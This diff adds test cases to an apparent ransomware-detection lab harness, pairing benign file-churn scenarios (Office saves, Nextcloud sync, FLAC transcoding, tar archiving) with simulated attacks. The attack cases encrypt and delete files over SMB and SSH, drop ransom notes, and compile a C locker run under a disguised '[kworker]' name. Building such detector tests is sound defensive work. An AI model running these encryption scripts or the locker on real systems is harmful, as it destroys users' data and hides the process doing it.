@@ -2052,3 +2052,214 @@ sc_b73_ssh_mv_loop_JPG_jpg() {
   sshx tomas 'cd ~/Pictures && for f in */*.JPG; do mv -n -- "$f" "${f%.JPG}.jpg"; done; ls */*.jpg | wc -l' | tee $CASE/facts
   rm -rf /home/tomas/Pictures
 }
+
+# --- batch 18 ---
+smb_setup() { # a real Samba server over the NAS share, user svc-nas (password only in this throw-away lab)
+  cat > /etc/samba/smb.conf <<'C'
+[global]
+   workgroup = LAB
+   server role = standalone server
+   map to guest = never
+   log file = /var/log/samba/log.%m
+   smb ports = 445
+   disable netbios = yes
+[share]
+   path = /srv/nas/share
+   read only = no
+   valid users = svc-nas
+   force user = svc-nas
+C
+  printf 'Nas-18pw\nNas-18pw\n' | smbpasswd -s -a svc-nas >/dev/null
+  [ -f /run/samba/smbd.pid ] && kill -0 "$(cat /run/samba/smbd.pid)" 2>/dev/null || { mkdir -p /run/samba; /usr/sbin/smbd -D 3>&- 9>&-; sleep 1; }
+}
+smbx() { smbclient -q //127.0.0.1/share -U 'svc-nas%Nas-18pw' "$@" 2>&1 | grep -v '^$' | head -3; }
+pre_h58_smb_client_lockbit_share() { smb_setup; }
+sc_h58_smb_client_lockbit_share() {
+  # a stand-in for a Windows client on another host: each file fetched over SMB, encrypted on the client, put back as
+  # F.lockbit and the original deleted over SMB; a note put in each folder. On this server only smbd touches the files.
+  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -type d | wc -l)" > $CASE/facts
+  local st; st=$(mktemp -d /tmp/.client.XXXX)
+  (cd /srv/nas/share && find . -type f | sed 's|^\./||') > $st/list
+  printf 'Your files are encrypted by LockBit-Linux. Contact lb58@onionmail.example\n' > $st/note
+  while read -r f; do
+    smbx -c "get \"$f\" \"$st/in\"" >/dev/null
+    openssl enc -aes-256-cbc -pbkdf2 -pass pass:Lb-58 -in $st/in -out $st/out
+    smbx -c "put \"$st/out\" \"$f.lockbit\"; del \"$f\"" >/dev/null
+  done < $st/list
+  (cd /srv/nas/share && find . -type d | sed 's|^\./\?||') | while read -r d; do smbx -c "put \"$st/note\" \"${d:+$d/}Restore-My-Files.txt\"" >/dev/null; done
+  rm -rf $st
+}
+sc_h59_ssh_wrapped_openssl_timeout_nice() {
+  echo "files $(find /home/mkowalski/Documents -type f | wc -l) dirs $(find /home/mkowalski/Documents -type d | wc -l)" > $CASE/facts
+  sshx mkowalski 'find ~/Documents -type f | while read -r f; do timeout 600 nice -n 19 ionice -c3 stdbuf -o0 env LC_ALL=C openssl enc -aes-256-ctr -pbkdf2 -pass pass:Wr-59 -in "$f" -out "$f.wrp59" && rm -f "$f"; done; find ~/Documents -type d -exec sh -c "echo Files encrypted. wrp59@onionmail.example > \"\$1/WRP59-HELP.txt\"" _ {} \; ; echo ok'
+}
+pre_h60_ssh_exec_a_kworker_locker() {
+  install -d -m 755 /var/tmp/.x
+  cat > /var/tmp/.x/lk.c <<'C'
+#include <dirent.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+static void lock(const char *p) {
+  char out[4200]; unsigned char buf[65536]; ssize_t n; int i;
+  snprintf(out, sizeof out, "%s.kw8", p);
+  int in = open(p, O_RDONLY); if (in < 0) return;
+  int o = open(out, O_WRONLY | O_CREAT | O_TRUNC, 0600); if (o < 0) { close(in); return; }
+  while ((n = read(in, buf, sizeof buf)) > 0) { for (i = 0; i < n; i++) buf[i] ^= 0x3c + i; write(o, buf, n); }
+  close(in); close(o); unlink(p);
+}
+static void walk(const char *d) {
+  DIR *D = opendir(d); struct dirent *e; char p[4096]; struct stat st;
+  if (!D) return;
+  snprintf(p, sizeof p, "%s/KW8-README.txt", d);
+  FILE *n = fopen(p, "w"); if (n) { fputs("All files encrypted. kw8@onionmail.example\n", n); fclose(n); }
+  while ((e = readdir(D))) {
+    if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..") || !strcmp(e->d_name, "KW8-README.txt")) continue;
+    snprintf(p, sizeof p, "%s/%s", d, e->d_name);
+    if (lstat(p, &st)) continue;
+    if (S_ISDIR(st.st_mode)) walk(p); else if (S_ISREG(st.st_mode) && !strstr(p, ".kw8")) lock(p);
+  }
+  closedir(D);
+}
+int main(int c, char **v) { for (int i = 1; i < c; i++) walk(v[i]); return 0; }
+C
+  gcc -O2 -o /var/tmp/.x/lk /var/tmp/.x/lk.c && rm /var/tmp/.x/lk.c; chmod 755 /var/tmp/.x/lk
+}
+sc_h60_ssh_exec_a_kworker_locker() {
+  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -type d | wc -l)" > $CASE/facts
+  sshx priya 'bash -c '"'"'exec -a "[kworker/u8:2]" /var/tmp/.x/lk /home/priya/work'"'"'; echo ok'
+  rm -rf /var/tmp/.x
+}
+pre_h61_ssh_sudo_devshm_cp_back() {
+  install -d -m 755 /usr/local/share/.cb
+  cat > /usr/local/share/.cb/cb.sh <<'S'
+#!/bin/bash
+st=/dev/shm/.cb61; mkdir -p $st
+find /var/www/shop/uploads -type f | while read -r f; do
+  n=$st/$(echo "$f" | md5sum | cut -c1-12)
+  cp "$f" $n && openssl enc -chacha20 -pbkdf2 -pass pass:Cb-61 -in $n -out $n.e && cp --no-preserve=all $n.e "$f" && mv "$f" "$f.cb61"
+  rm -f $n $n.e
+done
+find /var/www/shop/uploads -type d | while read -r d; do printf 'Your shop files are encrypted. cb61@onionmail.example\n' > "$d/CB61-RECOVER.txt"; done
+rmdir $st
+S
+  chmod 755 /usr/local/share/.cb/cb.sh
+}
+sc_h61_ssh_sudo_devshm_cp_back() {
+  echo "files $(find /var/www/shop/uploads -type f | wc -l) dirs $(find /var/www/shop/uploads -type d | wc -l)" > $CASE/facts
+  sshx deploy 'sudo /usr/local/share/.cb/cb.sh; echo ok'
+  rm -rf /usr/local/share/.cb
+}
+pre_b74_smb_office_save() { smb_setup; }
+sc_b74_smb_office_save() {
+  # Word's save over SMB: new content to ~WRLnnnn.tmp, the document renamed to another ~WRLnnnn.tmp, the first temp
+  # renamed to the document, the old one deleted; every file of the share saved once, forty of them twice.
+  local st; st=$(mktemp -d /tmp/.office.XXXX); local i=1000
+  (cd /srv/nas/share && find . -type f | sed 's|^\./||') > $st/list
+  head -40 $st/list >> $st/list.2; cat $st/list $st/list.2 > $st/all
+  while read -r f; do
+    d=$(dirname "$f"); i=$((i+2)); head -c $((3000 + RANDOM)) /dev/urandom > $st/doc
+    smbx -c "put \"$st/doc\" \"$d/~WRL$i.tmp\"; rename \"$f\" \"$d/~WRL$((i+1)).tmp\"; rename \"$d/~WRL$i.tmp\" \"$f\"; del \"$d/~WRL$((i+1)).tmp\"" >/dev/null
+  done < $st/all
+  echo "saves $(wc -l < $st/all) files $(find /srv/nas/share -type f | wc -l)" >> $CASE/facts
+  rm -rf $st
+}
+pre_b75_ssh_nextcloud_part_rename() {
+  rm -rf /home/priya/Nextcloud; mkdir -p /home/priya/Nextcloud/{Documents,Photos,Shared/Team,Notes} /home/priya/.local/share/ncsim
+  python3 - <<'PY'
+import os, random
+r = random.Random(75)
+dirs = ['Documents', 'Photos', 'Shared/Team', 'Notes']
+for i in range(100):
+    d = r.choice(dirs)
+    with open(f'/home/priya/Nextcloud/{d}/file_{i:03d}.{r.choice(["odt","jpg","pdf","md"])}', 'wb') as f: f.write(os.urandom(r.randint(2000, 20000)))
+PY
+  cat > /home/priya/.local/share/ncsim/ncsync.py <<'P'
+# stand-in for the Nextcloud desktop client's download step: a server listing is fetched, each file downloaded to a
+# hidden temp '.NAME.~hash' (or NAME.part) beside it, fsync'd, renamed over NAME (replacing an older version if there is one)
+import os, random, sys, hashlib
+root = sys.argv[1]; r = random.Random(7575)
+existing = []
+for d, _, fs in os.walk(root):
+    existing += [os.path.join(d, f) for f in fs]
+new = [os.path.join(root, r.choice(['Documents', 'Photos', 'Shared/Team', 'Notes']), f'sync_{i:03d}.{r.choice(["odt","jpg","pdf","md"])}') for i in range(200)]
+for i, p in enumerate(existing + new):
+    d, n = os.path.split(p)
+    lock = os.path.join(d, f'.~lock.{n}#') if i % 7 == 0 else None
+    if lock:
+        with open(lock, 'w') as f: f.write('priya,ws-priya,/home/priya,08.12.2026 01:20,file:///home/priya/.config/libreoffice/4;')
+    tmp = os.path.join(d, f'.{n}.~{hashlib.md5(p.encode()).hexdigest()[:8]}') if i % 2 else p + '.part'
+    with open(tmp, 'wb') as f:
+        f.write(os.urandom(r.randint(2000, 30000))); f.flush(); os.fsync(f.fileno())
+    os.replace(tmp, p)
+    if lock: os.unlink(lock)
+print(len(existing), len(new))
+P
+  chown -R priya: /home/priya/Nextcloud /home/priya/.local
+}
+sc_b75_ssh_nextcloud_part_rename() {
+  sshx priya 'python3 ~/.local/share/ncsim/ncsync.py ~/Nextcloud' | tee $CASE/facts
+  rm -rf /home/priya/Nextcloud /home/priya/.local/share/ncsim
+}
+pre_b76_ssh_flac_transcode_rm() {
+  rm -rf /home/tomas/Music; mkdir -p /home/tomas/Music/{session1,session2,field}
+  python3 - <<'PY'
+import wave, random, math
+r = random.Random(76)
+for i in range(200):
+    d = ['session1', 'session2', 'field'][i % 3]
+    with wave.open(f'/home/tomas/Music/{d}/take_{i:03d}.wav', 'wb') as w:
+        w.setnchannels(1); w.setsampwidth(2); w.setframerate(22050)
+        f = r.uniform(200, 900)
+        w.writeframes(b''.join(int(8000 * math.sin(2 * math.pi * f * t / 22050) + r.randint(-300, 300)).to_bytes(2, 'little', signed=True) for t in range(r.randint(4000, 9000))))
+PY
+  chown -R tomas: /home/tomas/Music
+}
+sc_b76_ssh_flac_transcode_rm() {
+  sshx tomas 'cd ~/Music && for f in */*.wav; do flac -s --best -o "${f%.wav}.flac" "$f" && rm "$f"; done; ls */*.flac | wc -l' | tee $CASE/facts
+  rm -rf /home/tomas/Music
+}
+pre_b77_cron_user_tar_xz_remove_projects() {
+  rm -rf /home/tomas/proj; mkdir -p /home/tomas/proj/done
+  python3 - <<'PY'
+import os, random
+r = random.Random(77)
+for m in ['2026-07', '2026-08', '2026-09', '2026-10', '2026-11']:
+    for p in range(2):
+        base = f'/home/tomas/proj/done/{m}-job{p}'
+        os.makedirs(base + '/src'); os.makedirs(base + '/out')
+        for i in range(r.randint(12, 20)):
+            with open(f'{base}/{r.choice(["src","out"])}/part_{i}.{r.choice(["c","h","dat","csv","png"])}', 'wb') as f: f.write(os.urandom(r.randint(1000, 15000)))
+PY
+  chown -R tomas: /home/tomas/proj
+}
+sc_b77_cron_user_tar_xz_remove_projects() {
+  rm -f /tmp/.b77-done
+  read m h < <(cron_at_next_minute)
+  echo "$m $h * * * cd ~/proj/done && for d in 2026-*/; do d=\${d\%/}; tar --remove-files -cJf \"\$d.tar.xz\" \"\$d\"; done; touch /tmp/.b77-done" | crontab -u tomas -
+  for i in $(seq 150); do [ -f /tmp/.b77-done ] && break; sleep 1; done; sleep 2; crontab -u tomas -r
+  echo "archives $(ls /home/tomas/proj/done/*.tar.xz | wc -l)" >> $CASE/facts
+  rm -rf /home/tomas/proj
+}
+pre_h62_smb_one_session_lockbit() { smb_setup; }
+sc_h62_smb_one_session_lockbit() {
+  # the same client as h58, but as a Windows client works: one SMB connection (one smbd child on the server) fetches
+  # every file, the client encrypts them, a second connection puts each F.lockbit, deletes F and drops the notes
+  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -type d | wc -l)" > $CASE/facts
+  local st; st=$(mktemp -d /tmp/.client.XXXX); mkdir $st/in $st/out
+  (cd /srv/nas/share && find . -type f | sed 's|^\./||') > $st/list
+  smbx -c "prompt OFF; recurse ON; lcd $st/in; mget *" >/dev/null
+  printf 'Your files are encrypted by LockBit-Linux. Contact lb62@onionmail.example\n' > $st/note
+  : > $st/cmds
+  while read -r f; do
+    mkdir -p "$st/out/$(dirname "$f")"
+    openssl enc -aes-256-cbc -pbkdf2 -pass pass:Lb-62 -in "$st/in/$f" -out "$st/out/$f.lockbit"
+    printf 'put "%s" "%s"\ndel "%s"\n' "$st/out/$f.lockbit" "$f.lockbit" "$f" >> $st/cmds
+  done < $st/list
+  (cd /srv/nas/share && find . -type d | sed 's|^\./\?||') | while read -r d; do printf 'put "%s" "%s"\n' "$st/note" "${d:+$d/}Restore-My-Files.txt" >> $st/cmds; done
+  smbclient -q //127.0.0.1/share -U 'svc-nas%Nas-18pw' < $st/cmds > $st/log 2>&1
+  echo "smb errors $(grep -ci 'error\|NT_STATUS' $st/log)" >> $CASE/facts
+  rm -rf $st
+}
